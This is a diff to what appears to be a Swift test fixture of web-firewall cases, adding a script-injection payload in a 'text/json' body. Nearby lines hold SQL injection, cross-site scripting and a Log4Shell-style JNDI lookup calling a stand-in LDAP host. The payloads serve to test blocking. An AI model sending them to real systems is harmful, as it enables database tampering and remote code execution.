@@ -167,6 +167,7 @@ enum FirewallCases {
         ("name", .target("/?a%27%20OR%201=1--=x")), ("name", .target("/?%3Cscript%3Ealert(1)%3C/script%3E=1")),
         ("json", .body(type: "application/json", "{\"a\": [[{\"b\": \"1' OR '1'='1\"}]]}")),
         ("json", .body(type: "application/problem+json", "{\"a\": \"<script>alert(1)</script>\"}")),
+        ("json", .body(type: "text/json", "{\"a\": \"<script>alert(1)</script>\"}")),
         ("json", .body(type: "application/json", "{\"a\": ")), ("xml", .body(type: "text/xml", "<a><b></a>")),
         ("xml", .body(type: "application/soap+xml", "<a><x>1' UNION SELECT 1,2,3--</x></a>")),
         ("java", .header("x-api-version", "${${lower:j}ndi:ldap://e.example/a}")),
